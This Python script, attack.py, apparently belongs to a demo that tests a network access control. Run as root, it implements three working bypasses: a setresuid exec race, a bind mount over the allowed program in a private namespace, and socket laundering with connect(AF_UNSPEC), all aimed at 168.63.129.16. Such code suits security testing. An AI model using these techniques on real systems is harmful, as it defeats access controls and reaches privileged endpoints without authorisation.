"""What an attacker does before the client of the demo runs: `attack.py TRICK REQUEST`, both JSON.

TRICK: `name`, and the programs `mine` and `allowed`. REQUEST is that of client.py, which is
executed at the end, as the same process. Started as root, for the same reason. Standard library
only.

- `exec`: connect as the user, by the program `mine`, then execute `allowed`, descriptor open.
- `mount`: execute what stands at the path of `allowed`, after `mine` was mounted over it in a mount
  namespace of our own.
- `launder`: connect as root and disconnect; the client connects the same socket as the user.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import sys
from pathlib import Path
from typing import Any, Final

CLIENT: Final = Path(__file__).with_name("client.py")

CLONE_NEWNS: Final = 0x20000
MS_BIND: Final = 0x1000
MS_PRIVATE_EVERYWHERE: Final = 0x44000

WIRESERVER: Final = ("168.63.129.16", 80)
"""An address for which being root is worth something."""


def exec_race(trick: dict[str, Any], request: dict[str, Any]) -> str:
    """Who connects is the user; the root that is kept aside only reads the library again."""
    os.setresgid(*[request["gid"]] * 3)
    os.setresuid(request["uid"], request["uid"], 0)
    connection = socket.socket()
    connection.connect((request["address"], request["port"]))
    os.setresuid(0, 0, 0)
    request |= {"socket": kept(connection), "connected": True}
    return str(trick["allowed"])


def bind_mount(trick: dict[str, Any], _: dict[str, Any]) -> str:
    """The path says the allowed program, /proc/PID/exe too."""
    check(libc().unshare(CLONE_NEWNS))
    check(libc().mount(b"none", b"/", None, MS_PRIVATE_EVERYWHERE, None))
    check(libc().mount(trick["mine"].encode(), trick["allowed"].encode(), None, MS_BIND, None))
    return str(trick["allowed"])


def launder(trick: dict[str, Any], request: dict[str, Any]) -> str:
    """connect() with AF_UNSPEC makes the socket as new (connect(2))."""
    used = socket.socket()
    used.connect(WIRESERVER)
    check(libc().connect(used.fileno(), (ctypes.c_char * 16)(), 16))
    request |= {"socket": kept(used), "connected": False}
    return str(trick["mine"])


def kept(used: socket.socket) -> int:
    """The descriptor, which lives on in the next program."""
    used.set_inheritable(True)
    return used.detach()


def libc() -> ctypes.CDLL:
    """The C library, for what Python 3.11 has no name for."""
    return ctypes.CDLL(None, use_errno=True)


def check(result: int) -> None:
    """Raise for a C function that failed."""
    if result:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


TRICKS: Final = {"exec": exec_race, "mount": bind_mount, "launder": launder}


def main(trick: dict[str, Any], request: dict[str, Any]) -> None:
    """Never returns."""
    program = TRICKS[trick["name"]](trick, request)
    words = [program, "-S", "-s", "-P", str(CLIENT), json.dumps(request)]
    os.execv(program, words)  # noqa: S606 - no shell is the point


if __name__ == "__main__":
    main(json.loads(sys.argv[1]), json.loads(sys.argv[2]))
